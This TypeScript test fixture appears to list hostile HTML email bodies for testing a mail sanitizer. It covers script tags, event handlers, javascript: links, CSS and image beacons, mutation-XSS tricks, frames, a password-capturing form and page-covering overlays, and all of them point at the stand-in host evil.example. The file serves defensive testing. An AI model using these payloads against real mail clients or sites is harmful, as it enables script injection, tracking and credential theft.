// Mails that try to run something, to ask for something, to lead away or to cover themselves. Each shows the word "letter".

/** Everything hostile leads here, so that whatever survives is found by this name. */
export const EVIL = 'evil.example';

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>letter<script>fetch("//evil.example/a")</script>'],
  ['a script from elsewhere', '<p>letter<script src=https://evil.example/a.js></script>'],
  ['a script in odd letters', '<p>letter<ScRiPt\n\tSRC="https://evil.example/a.js"\n></sCrIpT\n>'],
  ['a script with a slash for a space', '<p>letter<script/src="https://evil.example/a.js"></script>'],
  ['a script within a script tag', '<p>letter<scr<script>ipt>fetch("//evil.example")</scr</script>ipt>'],
  ['a script behind NUL', '<p>letter<scr\0ipt src="https://evil.example/a.js"></scr\0ipt>'],
  ['a script that is never closed', '<p>letter</p><script>fetch("//evil.example")'],
  ['a script behind a broken comment', '<p>letter</p><!--><script src=//evil.example/a.js></script><!-- -->'],
  [
    'a script behind a comment that ends with a bang',
    '<p>letter<!-- --!><script src=//evil.example></script> -->',
  ],
  [
    'a script in a conditional comment',
    '<p>letter<!--[if gte IE 4]><script src=//evil.example></script><![endif]-->',
  ],
  ['a script in CDATA', '<p>letter<![CDATA[<script src=//evil.example></script>]]>'],
  ['a script in a title', '<title><script src=//evil.example></script></title><p>letter'],
  [
    'a script in a closed noscript',
    '<p>letter<noscript><p title="</noscript><img src=//evil.example/a onerror=fetch(1)>">',
  ],
  ['a script in a template', '<p>letter<template><script src=//evil.example></script></template>'],
  ['a script in a textarea', '<p>letter<textarea><script src=//evil.example></script></textarea>'],
  ['a script in xmp', '<p>letter<xmp><script src=//evil.example></script></xmp>'],
  ['a handler', `<p>letter<img src="${PIXEL}" onload="new Image().src='//evil.example'">`],
  ['a handler of an error', '<p>letter<img src=x onerror="fetch(\'//evil.example\')">'],
  ['a handler behind slashes', '<p>letter<img/src=x/onerror=fetch(`//evil.example`)//>'],
  [
    'a handler behind a quote that is never closed',
    '<p>letter<img alt="><script src=//evil.example></script>',
  ],
  ['a handler in a style', '<p>letter<img style="xss:expression(fetch(\'//evil.example\'))">'],
  ['a handler of the body', '<body onload="fetch(\'//evil.example\')" onpageshow=fetch(1)><p>letter'],
  ['a second body with a handler', '<p>letter<body onload="fetch(\'//evil.example\')">'],
  [
    'a handler of an animation',
    '<style>@keyframes x{}</style><p style="animation:x" onanimationstart="fetch(\'//evil.example\')">letter',
  ],
  ['details that open by themselves', '<p>letter<details open ontoggle="fetch(\'//evil.example\')">'],
  ['a link that runs', '<a href="javascript:fetch(\'//evil.example\')">letter</a>'],
  [
    'a link that runs, in disguise',
    '<a href=" jav&#x09;a\nscript&colon;fetch(\'//evil.example\')">letter</a>',
  ],
  ['a link to a page of its own', '<a href="data:text/html,<script src=//evil.example></script>">letter</a>'],
  ['a link of VBScript', '<a href="vbscript:MsgBox(1)//evil.example">letter</a>'],
  ['a link to a file', '<a href="file:///evil.example/a">letter</a>'],
  [
    'a link without a scheme',
    '<a href="//evil.example/a">letter</a><a href="/api/v1/evil.example">letter</a>',
  ],
  ['a link that pings', '<a href="https://harmless.example" ping="https://evil.example/a">letter</a>'],
  [
    'a link within the frame',
    '<base target=_self><a target=_top href="mailto:a@harmless.example">letter</a>',
  ],
  [
    'an area of a map',
    '<p>letter<img usemap=#m><map name=m><area href="javascript:fetch(\'//evil.example\')"></map>',
  ],
  [
    'a form',
    '<form action=https://evil.example><p>letter<input name=password autofocus onfocus=fetch(1)><button>Send</button></form>',
  ],
  [
    'a button with an address',
    '<p>letter<button form=f formaction="javascript:fetch(\'//evil.example\')">Go</button>',
  ],
  ['a picture from elsewhere', '<p>letter<img src="https://evil.example/pixel.gif" width=1 height=1>'],
  ['a picture without a scheme', '<p>letter<img src=//evil.example/pixel.gif>'],
  ['a picture with backslashes', '<p>letter<img src="\\\\evil.example\\pixel.gif">'],
  ['a picture by srcset', `<p>letter<img src="${PIXEL}" srcset="https://evil.example/2x.png 2x">`],
  [
    'a picture with sources',
    '<p>letter<picture><source srcset=//evil.example/a.webp><img src=//evil.example/a.png></picture>',
  ],
  [
    'a picture by an old attribute',
    '<p>letter<img lowsrc=//evil.example/a dynsrc=//evil.example/a longdesc=//evil.example/a>',
  ],
  ['a picture named image', '<p>letter<image src=//evil.example/pixel.gif>'],
  ['a picture of an attached file', '<p>letter<img src="cid:logo@evil.example">'],
  [
    'a drawing',
    "<p>letter<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='//evil.example/a'/></svg>\">",
  ],
  [
    'a drawing in base64',
    '<p>letter<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ii8vZXZpbC5leGFtcGxlIi8+">',
  ],
  [
    'a background',
    '<body background=//evil.example/a><table background="https://evil.example/b.png"><tr><td background=//evil.example/c>letter',
  ],
  ['a background by style', '<p style="background:red url(https://evil.example/a.png) no-repeat">letter'],
  ['a background by quoted style', `<p style='background-image:url("//evil.example/a;b.png")'>letter`],
  ['a background with an escape', '<p style="background:u\\72l(//evil.example/a)">letter'],
  ['a background with a comment', '<p style="background:url/**/(//evil.example/a);color:/*;*/red">letter'],
  [
    'a background by other functions',
    '<p style="background:image-set(\'//evil.example/a\' 1x);cursor:image(//evil.example/b)">letter',
  ],
  ['a background behind a variable', '<p style="--x:url(//evil.example/a);background:var(--x)">letter'],
  [
    'a list of pictures',
    '<ul style="list-style-image:url(//evil.example/a)"><li style="list-style:url(//evil.example/b)">letter',
  ],
  ['a border of a picture', '<p style="border-image:url(//evil.example/a) 30">letter'],
  ['generated content', '<style>p::after{content:url(//evil.example/a)}</style><p>letter'],
  [
    'a cursor, a mask and a filter',
    '<p style="cursor:url(//evil.example/a),auto;mask:url(//evil.example/b);filter:url(//evil.example/c#d)">letter',
  ],
  ['a binding', '<p style="-moz-binding:url(//evil.example/a#b);behavior:url(//evil.example/c)">letter'],
  [
    'an import',
    '<style>@import "https://evil.example/a.css";@import url(//evil.example/b.css);</style><p>letter',
  ],
  [
    'an import behind a comment',
    '<style>/**/@im/**/port"//evil.example/a";@\\69mport url(//evil.example/b);</style><p>letter',
  ],
  [
    'a font',
    '<style>@font-face{font-family:x;src:url(//evil.example/a.woff)}p{font-family:x}</style><p>letter',
  ],
  ['a namespace', '<style>@namespace url(//evil.example/a);@charset "x";p{color:red}</style><p>letter'],
  [
    'a nested rule',
    '<style>@media all{@import url(//evil.example/a);p{background:url(//evil.example/b);& b{background:url(//evil.example/c)}}}</style><p>letter',
  ],
  [
    'a supports rule',
    '<style>@supports (color:red){p{background:url(//evil.example/a)}}@layer x{p{background:url(//evil.example/b)}}</style><p>letter',
  ],
  [
    'a sheet that closes itself',
    '<style>p{font-family:"</style><script src=//evil.example></script>"}</style><p>letter',
  ],
  ['a sheet with markup', '<style>p>b{color:red}<!--</style><img src=//evil.example/a>--></style><p>letter'],
  [
    'a sheet with an open string',
    "<style>p{font-family:'x}b{background:url(//evil.example/a)}</style><p>letter",
  ],
  [
    'a sheet that reads attributes',
    '<style>input[value^="a"]{background:url(//evil.example/a)}</style><p>letter',
  ],
  ['a linked sheet', '<link rel=stylesheet href=https://evil.example/a.css><p>letter'],
  [
    'other links',
    '<link rel=icon href=//evil.example/a><link rel=preload as=image href=//evil.example/b><link rel=prefetch href=//evil.example/c><link rel=dns-prefetch href=//evil.example><p>letter',
  ],
  ['a base', '<base href="https://evil.example/"><p>letter<img src=a.png><a href=b>b</a>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example"><p>letter'],
  [
    'a policy of its own',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri //evil.example"><p>letter',
  ],
  [
    'a frame',
    '<p>letter<iframe src=https://evil.example></iframe><iframe srcdoc="<script src=//evil.example></script>"></iframe>',
  ],
  ['a set of frames', '<p>letter</p><frameset><frame src=https://evil.example></frameset>'],
  [
    'objects',
    '<p>letter<object data=https://evil.example/a></object><embed src=//evil.example/b><applet code=//evil.example></applet>',
  ],
  [
    'sound and film',
    '<p>letter<audio src=//evil.example/a autoplay></audio><video poster=//evil.example/b><source src=//evil.example/c><track src=//evil.example/d></video><bgsound src=//evil.example/e>',
  ],
  [
    'SVG',
    '<p>letter<svg onload="fetch(\'//evil.example\')"><image href=//evil.example/a /><use href="//evil.example/b#c" /></svg>',
  ],
  [
    'a script in SVG',
    '<p>letter<svg><script href=//evil.example/a></script><style>@import url(//evil.example/b);</style></svg>',
  ],
  [
    'an animation in SVG',
    '<p>letter<svg><a><animate attributeName=href values="javascript:fetch(\'//evil.example\')" /><text>x</text></a></svg>',
  ],
  [
    'HTML in SVG',
    '<p>letter<svg><foreignObject><iframe src=//evil.example></iframe><img src=//evil.example/a></foreignObject></svg>',
  ],
  [
    'MathML',
    '<p>letter<math href="javascript:fetch(\'//evil.example\')"><mtext><img src=//evil.example/a></mtext></math>',
  ],
  [
    'a mutation',
    '<p>letter<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=//evil.example/a onerror=fetch(1)&gt;">',
  ],
  [
    'a mutation by a form',
    '<p>letter<form><math><mtext></form><form><mglyph><style></math><img src=//evil.example/a onerror=fetch(1)>',
  ],
  [
    'a mutation by a table',
    '<table><p>letter<tr><td><select><style></select><img src=//evil.example/a></style>',
  ],
  ['a plaintext', '<p>letter</p><plaintext><img src=//evil.example/a>'],
  ['an unclosed attribute', '<p>letter</p><a href="https://harmless.example/<img src=//evil.example/a>'],
  ['an attribute with a quote in its name', '<p>letter<img "=">" src=//evil.example/a>'],
  [
    'an import of HTML',
    '<p>letter<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>',
  ],
  ['a manifest', '<html manifest=//evil.example/a><p>letter'],
  ['XML', '<?xml-stylesheet href="//evil.example/a.xsl"?><p>letter<xml src=//evil.example/a></xml>'],
  [
    'VML',
    '<p>letter<v:image src=//evil.example/a /><v:rect><v:fill type=frame src=//evil.example/b /></v:rect>',
  ],
  [
    'a cover',
    '<p>letter<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in at evil.example</div>'.replace(
      ' at evil.example',
      '',
    ),
  ],
  [
    'a cover by a sheet',
    '<style>.c{position:absolute!important;top:0;left:0;z-index:99999;color:red}</style><p class=c>letter',
  ],
  [
    'a cover by moving',
    '<p style="transform:translate(-50%,-50%) scale(99);position:\tsticky;margin:1px">letter',
  ],
];
